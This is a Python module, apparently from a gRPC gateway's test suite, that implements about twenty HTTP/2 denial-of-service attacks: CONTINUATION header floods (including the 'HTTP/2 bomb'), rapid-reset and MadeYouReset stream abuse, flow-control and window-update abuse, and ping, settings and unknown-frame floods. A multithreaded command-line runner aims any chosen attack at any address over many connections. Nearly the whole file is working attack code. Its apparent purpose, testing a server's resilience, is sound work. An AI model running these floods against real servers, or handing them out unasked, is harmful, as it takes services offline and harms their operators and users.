# SPDX-License-Identifier: Apache-2.0
"""What hostile clients send. Each attack is a function of an open connection (http2.connect()) and of a
number of bytes, and returns the number that was sent: fewer when the gateway has closed the connection.

    attacks.py NAME ADDRESS BYTES CONNECTIONS SECONDS [CA_FILE]

runs an attack on so many connections at a time, each of which is opened again when the gateway has closed
it, until all together have sent BYTES, or for SECONDS. It prints how many MiB were sent and on how many
connections.
"""

import concurrent.futures
import contextlib
import struct
import sys
import threading
import time

import http2

MIB = 1 << 20

HELLO = http2.PREFACE + http2.settings()
ACK = http2.frame(http2.SETTINGS, 1)
FIELD = http2.indexed_header(b"x-junk", b"j")  # its index is 62 afterwards


def call(stream, message=http2.MESSAGE):
    return (http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.CALL) +
            http2.frame(http2.DATA, http2.END_STREAM, stream, message))


def flood(connection, chunk, size):
    """Sends `chunk` again and again, `size` bytes in all. Returns what the kernel has accepted."""
    sent = 0
    with contextlib.suppress(ConnectionError, OSError):
        while sent < size:
            connection.sendall(chunk)
            sent += len(chunk)
    return sent


def begin(connection, data):
    with contextlib.suppress(ConnectionError, OSError):
        connection.sendall(data)


def continuation_literals(connection, size):
    """A header block without an end, of large fields."""
    begin(connection, HELLO + http2.frame(http2.HEADERS, 0, 1, http2.CALL))
    field = http2.header(b"x-junk", b"j" * 4000)
    return flood(connection, http2.frame(http2.CONTINUATION, 0, 1, field) * 16, size)


def continuation_indexed(connection, size):
    """A header block without an end, of fields that take a byte each (the "HTTP/2 bomb")."""
    begin(connection, HELLO + http2.frame(http2.HEADERS, 0, 1, http2.CALL + FIELD))
    return flood(connection, http2.frame(http2.CONTINUATION, 0, 1, b"\xbe" * 150) * 400, size)


def continuation_string(connection, size):
    """One field whose value does not end, in CONTINUATION frames."""
    begin(connection, HELLO + http2.frame(http2.HEADERS, 0, 1, http2.CALL + b"\0\1x\x7f" + b"\xff" * 4 + b"\x07"))
    return flood(connection, http2.frame(http2.CONTINUATION, 0, 1, b"j" * 16000) * 4, size)


def empty_continuations(connection, size):
    begin(connection, HELLO + http2.frame(http2.HEADERS, 0, 1, http2.CALL))
    return flood(connection, http2.frame(http2.CONTINUATION, 0, 1) * 7000, size)


def large_message(connection, size):
    """A message that claims `size` bytes, and sends them whatever the window is."""
    begin(connection, HELLO + ACK + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.CALL) +
          http2.frame(http2.DATA, 0, 1, b"\0" + struct.pack(">I", size)))
    return _message_bytes(connection, size, lambda: b"")


def large_message_among_calls(connection, size):
    """The same, with a complete call after every 64 KiB."""
    begin(connection, HELLO + ACK + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.CALL) +
          http2.frame(http2.DATA, 0, 1, b"\0" + struct.pack(">I", size)))
    streams = iter(range(3, 1 << 30, 2))
    return _message_bytes(connection, size, lambda: call(next(streams)))


def _message_bytes(connection, size, between):
    """Follows the window that the gateway grants for the connection, as gRPC closes connections that do
    not."""
    sent, window, unread = 0, 65535, b""
    payload = b"x" * 16000
    connection.settimeout(5)
    with contextlib.suppress(ConnectionError, OSError):
        while sent < size:
            while window >= len(payload) and sent < size:
                connection.sendall(http2.frame(http2.DATA, 0, 1, payload))
                sent += len(payload)
                window -= len(payload)
                if sent % (4 * len(payload)) == 0:
                    extra = between()
                    window -= len(http2.MESSAGE) if extra else 0
                    connection.sendall(extra)
            data = connection.recv(65536)
            if not data:
                break
            unread += data
            frames, unread = http2.parse(unread)
            for kind, flags, stream, body in frames:
                if kind == http2.WINDOW_UPDATE and stream == 0:
                    window += struct.unpack(">I", body)[0]
                if kind == http2.PING and not flags:
                    connection.sendall(http2.frame(http2.PING, 1, 0, body))
    return sent


def calls_without_message(connection, size):
    """As many calls as fit, each with 400 fields of a byte, and no message."""
    return _open_calls(connection, size, http2.CALL + FIELD + b"\xbe" * 150, ACK)


def calls_without_acknowledgement(connection, size):
    """Calls with little more than their frame: the limit of streams is not acknowledged."""
    return _open_calls(connection, size, http2.CALL_INDICES, b"")


def calls_in_long_records(connection, size):
    """The same, a thousand at once: with TLS they fill a record, and are decrypted at the same time."""
    return _open_calls(connection, size, http2.CALL_INDICES, b"", at_once=1000)


def _open_calls(connection, size, block, after_hello, at_once=100):
    begin(connection, HELLO + after_hello + http2.frame(
        http2.HEADERS, http2.END_HEADERS, 1, http2.INDEXED_CALL))
    return _send_calls(
        connection, size, at_once,
        lambda stream: http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block), first=3)


def unanswered_calls(connection, size):
    """Complete calls of a client that does not acknowledge SETTINGS and reads nothing."""
    begin(connection, HELLO)
    return _complete_calls(connection, size)


def unread_responses(connection, size):
    """Complete calls, whose responses flow control does not let through."""
    begin(connection, http2.PREFACE + http2.settings(window=0))
    return _complete_calls(connection, size)


def _complete_calls(connection, size):
    return _send_calls(connection, size, 50, call)


def _send_calls(connection, size, at_once, make, first=1):
    """Sends `make(stream)` for new streams, so many at once, until `size` bytes are sent or refused."""
    sent, stream = 0, first
    with contextlib.suppress(ConnectionError, OSError):
        while sent < size:
            data = b"".join(map(make, range(stream, stream + 2 * at_once, 2)))
            connection.sendall(data)
            sent, stream = sent + len(data), stream + 2 * at_once
    return sent


def rapid_resets(connection, size):
    begin(connection, HELLO + ACK)
    return _send_calls(
        connection, size, 100,
        lambda stream: (http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.CALL) +
                        http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")))


def made_resets(connection, size):
    """Calls that the server itself is made to reset, by a window update of 0 (MadeYouReset)."""
    begin(connection, HELLO + ACK)
    return _send_calls(
        connection, size, 50,
        lambda stream: call(stream) + http2.frame(http2.WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))


def _frames(frame, prefix=b""):
    def attack(connection, size):
        begin(connection, HELLO + ACK + prefix)
        return flood(connection, frame * (65536 // len(frame)), size)
    return attack



_OPEN_CALL = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.CALL)
pings = _frames(http2.frame(http2.PING, payload=b"12345678"))
settings = _frames(http2.settings())
empty_data = _frames(http2.frame(http2.DATA, 0, 1), _OPEN_CALL)
window_updates = _frames(http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))
unknown_frames = _frames(http2.frame(0xEE, 0, 0, b"x" * 16000))
priorities = _frames(http2.frame(2, 0, 1, b"\0\0\0\0\1"))


def tiny_data(connection, size):
    """A message of 60 KB, in frames of a byte each."""
    begin(connection, HELLO + ACK + _OPEN_CALL +
          http2.frame(http2.DATA, 0, 1, b"\0" + struct.pack(">I", 60_000)))
    return flood(connection, http2.frame(http2.DATA, 0, 1, b"x") * 1000, size)


FLOODS = (
    "continuation_literals", "continuation_indexed", "continuation_string", "empty_continuations",
    "large_message", "large_message_among_calls", "calls_without_message",
    "calls_without_acknowledgement", "calls_in_long_records", "unanswered_calls", "unread_responses",
    "rapid_resets", "made_resets", "pings", "settings", "empty_data", "window_updates", "unknown_frames",
    "priorities", "tiny_data")


def run(name, address, size, connections, seconds, trusted_ca=None):
    attack, end = globals()[name], time.monotonic() + seconds
    sent, opened, lock = 0, 0, threading.Lock()

    def repeat():
        nonlocal sent, opened
        while sent < size and time.monotonic() < end:
            with contextlib.suppress(OSError):
                with http2.connect(address, trusted_ca) as connection:
                    connection.settimeout(max(0.1, min(5.0, end - time.monotonic())))
                    count = attack(connection, max(1, size // connections))
                    with lock:
                        sent, opened = sent + count, opened + 1

    with concurrent.futures.ThreadPoolExecutor(connections) as threads:
        for ended in [threads.submit(repeat) for _ in range(connections)]:
            ended.result()  # raises what the thread has raised
    return sent, opened


if __name__ == "__main__":
    _name, _address, _size, _connections, _seconds, *_ca = sys.argv[1:]
    _sent, _opened = run(_name, _address, int(_size), int(_connections), float(_seconds), *_ca)
    print(_sent / MIB, _opened)
